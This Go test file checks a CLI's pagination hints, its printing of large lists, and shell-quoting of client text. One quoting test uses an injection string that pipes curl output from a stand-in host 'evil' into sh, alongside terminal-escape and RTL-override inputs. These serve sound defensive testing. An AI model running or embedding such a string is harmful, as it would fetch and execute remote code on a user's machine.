package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/spf13/cobra"
)

// rowsOf is an API whose lists have so many rows each, and a thousand a page at most.
func rowsOf(total int) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		limit, begin := total, 0
		if n, err := strconv.Atoi(r.URL.Query().Get("limit")); err == nil {
			limit = n
		}
		if cursor := r.URL.Query().Get("cursor"); strings.HasPrefix(cursor, "row") {
			begin, _ = strconv.Atoi(cursor[len("row"):])
		}
		end := min(begin+limit, total)
		items := make([]json.RawMessage, end-begin)
		for i := range items {
			id := fmt.Sprint(begin + i + 1)
			if r.URL.Path == "/v1/nodes" {
				id = strconv.Quote(id)
			}
			items[i] = fmt.Appendf(nil, `{"id": %s, "token": %d, "queue": "mails", "lock_key": "k"}`, id, begin+i+1)
		}
		page := listed[json.RawMessage]{Items: items}
		if end < total {
			page.Next = fmt.Sprintf("row%d", end)
		}
		writeAnswer(w, http.StatusOK, page)
	})
}

// pagingCommands are all that have the --limit of a list, with arguments.
func pagingCommands(t *testing.T) (all [][]string) {
	var visit func(c *cobra.Command)
	visit = func(c *cobra.Command) {
		for _, child := range c.Commands() {
			visit(child)
		}
		limit := c.Flags().Lookup("limit")
		if limit == nil {
			return
		}
		if _, ofPage := limit.Value.(pageLimit); !ofPage {
			return
		}
		line := strings.Fields(c.CommandPath())[1:]
		for _, argument := range strings.Fields(c.Use)[1:] {
			if !strings.HasPrefix(argument, "[") {
				line = append(line, "mails")
			}
		}
		all = append(all, line)
	}
	visit(newRoot(newApp(nil, nil, nil, func(string) string { return "" })))
	if len(all) < 12 {
		t.Fatalf("%d commands have --limit", len(all))
	}
	return all
}

// A script that reads JSON sees as well that rows are missing.
func TestAFullPageOfEachListIsSaid(t *testing.T) {
	for _, line := range pagingCommands(t) {
		for _, format := range []string{"table", "jsonl"} {
			args := append(line[:len(line):len(line)], "--limit", "3", "-o", format)
			out, errs, code := command(t, rowsOf(4), args...)
			if !strings.Contains(errs, "there may be more: ") || strings.Contains(out, "there may be more") {
				t.Errorf("%s: exit %d, of 4 rows: %q", args, code, errs)
			}
			if _, errs, _ := command(t, rowsOf(2), args...); strings.Contains(errs, "more") {
				t.Errorf("%s: of 2 rows: %s", args, errs)
			}
		}
	}
}

func TestHintsNameTheFlagOfTheNextPage(t *testing.T) {
	for line, hint := range map[string]string{
		"lock list":                  "--after 3",
		"lock verify":                "--after 3",
		"slot list":                  "--after 3",
		"operation list":             "--before 3",
		"batch list":                 "--before 3",
		"group blocked --queue mail": "--after",
		"group blocked":              "--limit, up to 10000, or --queue",
		"node list":                  "--limit, up to 10000",
		"failure causes mails":       "--limit, up to 200",
	} {
		args := append(strings.Fields(line), "--limit", "3")
		if _, errs, _ := command(t, rowsOf(4), args...); !strings.HasPrefix(errs, "there may be more: "+hint) {
			t.Errorf("%s: %s, want %s", line, errs, hint)
		}
	}
}

// A bill for a month has every hour of it.
func TestUsageIsPrintedWhole(t *testing.T) {
	out, errs, code := command(t, rowsOf(12_500), "flow", "usage", "-o", "jsonl")
	if n := strings.Count(out, "\n"); n != 12_500 || errs != "" || code != 0 {
		t.Errorf("exit %d, %d rows of 12500: %s", code, n, errs)
	}
}

// An object behind the rows of a bound would be printed nowhere, and a command on it would say that it does not exist.
func TestListsWithoutALimitArePrintedWhole(t *testing.T) {
	for _, line := range []string{"limit list", "model list", "token list", "pause list"} {
		out, errs, code := command(t, rowsOf(12_500), append(strings.Fields(line), "-o", "jsonl")...)
		if n := strings.Count(out, "\n"); n != 12_500 || errs != "" || code != 0 {
			t.Errorf("%s: exit %d, %d rows of 12500: %s", line, code, n, errs)
		}
	}
}

// A lock key is the text of a client: what a person copies from a hint is one word of a shell, and runs nothing.
func TestHintsQuoteTextsOfClients(t *testing.T) {
	for key, want := range map[string]string{
		"user 1":              `--after 'user 1'`,
		"$(curl evil|sh)`id`": "--after '$(curl evil|sh)`id`'",
		`it's "$HOME"`:        `--after 'it'\''s "$HOME"'`,
		"a\nb":                "--limit, up to 10000",
		"a\u202etxt.exe":      "--limit, up to 10000",
		"\x1b[2J":             "--limit, up to 10000",
	} {
		api := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			writeAnswer(w, http.StatusOK, listed[map[string]string]{Items: []map[string]string{{"lock_key": key, "queue": "mails", "url": key}}})
		})
		for _, line := range []string{"group list mails", "group blocked --queue mails", "webhook list"} {
			_, errs, code := command(t, api, append(strings.Fields(line), "--limit", "1")...)
			if errs != "there may be more: "+want+"\n" || code != 0 {
				t.Errorf("%s: exit %d, %s, want %s", line, code, errs, want)
			}
		}
	}
}
